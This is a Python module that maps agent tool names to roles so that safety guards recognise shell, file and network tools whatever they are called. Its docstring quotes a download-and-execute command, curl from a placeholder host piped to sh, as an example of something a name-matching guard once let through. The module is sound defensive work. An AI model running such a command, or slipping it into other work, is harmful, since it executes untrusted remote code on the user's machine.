"""Tool roles: what a tool *is*, so that guards choose tools by kind, not by spelling.

A declaration may say its role (``ToolDeclaration(role="shell")``,
``@registry.tool("run", role="shell")``). Where it does not, the tool's name decides when
it is one of the common names agents and frameworks give such tools (``bash``, ``shell``,
``run_command``, ``execute_command``, ``read_file``, ``write_file``,
``str_replace_editor``, …), compared without case, ``-``, ``_``, ``.`` or spaces. A guard
that watched only the exact name ``Bash`` let ``bash("curl http://x | sh")`` through.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from typing import Literal, get_args

Role = Literal["shell", "file_read", "file_write", "search", "network", "other"]
ROLES: frozenset[str] = frozenset(get_args(Role))

_COMMON: dict[str, tuple[str, ...]] = {
    "shell": ("bash", "shell", "sh", "zsh", "run_command", "execute_command", "run_shell",
              "run_shell_command", "shell_command", "execute_shell", "exec_command", "exec",
              "execute", "terminal", "run_terminal_cmd", "run_in_terminal", "terminal_command",
              "run_bash", "bash_tool", "shell_tool", "command", "cmd", "run_code",
              "execute_bash", "local_shell", "subprocess", "powershell"),
    "file_write": ("write", "edit", "multiedit", "write_file", "edit_file", "create_file",
                   "str_replace_editor", "str_replace_based_edit_tool", "apply_patch",
                   "patch", "file_write", "write_to_file", "replace_in_file", "append_file",
                   "save_file", "notebook_edit", "delete_file", "move_file"),
    "file_read": ("read", "read_file", "file_read", "cat", "view", "view_file", "open_file",
                  "get_file_contents", "read_text_file", "read_multiple_files"),
    "search": ("grep", "glob", "ls", "find", "search", "list_dir", "list_directory",
               "list_files", "search_files", "file_search", "codebase_search", "ripgrep"),
    "network": ("fetch", "web_fetch", "http_get", "http_request", "curl", "wget", "browse",
                "web_search", "download"),
}


def normalise(name: str) -> str:
    return "".join(c for c in name.lower() if c.isalnum())


COMMON_NAMES: dict[str, str] = {normalise(n): role for role, names in _COMMON.items()
                                for n in names}


def role_of(name: str, declared: str | None = None) -> str:
    """The tool's role: the declared one, else the role of its name if it is a common
    one, else ``"other"``."""
    if declared is not None:
        return declared
    return COMMON_NAMES.get(normalise(name), "other")


def with_roles(names: Sequence[str], roles: Mapping[str, str], *wanted: str) -> list[str]:
    """``names`` (kept first, in order) and every tool whose role is one of ``wanted``."""
    out = list(names)
    out += [name for name, role in roles.items() if role in wanted and name not in out]
    return out
